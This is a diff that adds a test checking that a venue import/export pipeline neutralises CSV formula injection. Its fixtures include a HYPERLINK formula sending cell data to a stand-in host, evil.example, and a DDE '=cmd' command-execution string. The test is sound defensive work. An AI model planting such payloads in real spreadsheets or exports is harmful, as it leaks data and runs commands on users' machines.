@@ -198,3 +198,62 @@ def test_export_reads_in_keyset_batches(db: Database) -> None:
     assert [t.count("\r\n") for t in texts] == [1, 3, 3, 1]
     assert len(statements) == 3
     assert all("LIMIT" in s and "structures.id >" in s for s in statements)
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(
+    client: TestClient, db: Database, tmp_path: Any
+) -> None:
+    """OWASP's CSV injection rule: =, +, -, @ (tab or carriage return before them) start a formula."""
+    from batch.imports import import_lieux
+
+    payloads = {
+        "1": {"nom": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "adresse": "1 rue des Tests"},
+        "2": {"nom": "+Espace numérique", "adresse": "-1 rue des Tests"},
+        "3": {"nom": "@SUM(1+1)", "adresse": "\t=cmd|' /C calc'!A0"},
+        "4": {"nom": "\r-2+3", "adresse": "2 rue des Tests", "telephone": "+33545945600"},
+    }
+    rows = [
+        {
+            "id": key,
+            "commune": "Angoulême",
+            "code_postal": "16000",
+            "services": "Prendre en main un ordinateur",
+            "source": "test",
+            "date_maj": "2023-01-01",
+            "latitude": -21.1,
+            "longitude": 55.5,
+            **fields,
+        }
+        for key, fields in payloads.items()
+    ]
+    path = tmp_path / "formules.json"
+    path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
+    report = import_lieux(db, [path])
+    (file_report,) = report.files
+    assert file_report.taken == 4
+    warned = sorted((w.id, w.reason.split(" « ")[0]) for w in file_report.warnings if "formule" in w.reason)
+    assert warned == [
+        ("1", "nom"),
+        ("2", "adresse"),
+        ("2", "nom"),
+        ("3", "adresse"),
+        ("3", "nom"),
+        ("4", "nom"),
+    ]
+
+    _, exported = read_export(client)
+    by_id = {row["nom"].lstrip("'"): row for row in exported}
+    for row in exported:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")) or column in ("telephone",), (
+                column,
+                value,
+            )
+            assert not value.startswith("-") or column in ("latitude", "longitude"), (column, value)
+    assert by_id['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")']["nom"].startswith("'=HYPERLINK(")
+    assert by_id["+Espace numérique"]["adresse"] == "'-1 rue des Tests"
+    assert by_id["@SUM(1+1)"]["adresse"] == "'=cmd|' /C calc'!A0"
+    # Plain numbers are data: the standard's phones and coordinates keep their sign.
+    assert by_id["-2+3"]["nom"] == "'-2+3"
+    assert by_id["-2+3"]["telephone"] == "+33545945600"
+    assert by_id["-2+3"]["latitude"] == "-21.1"
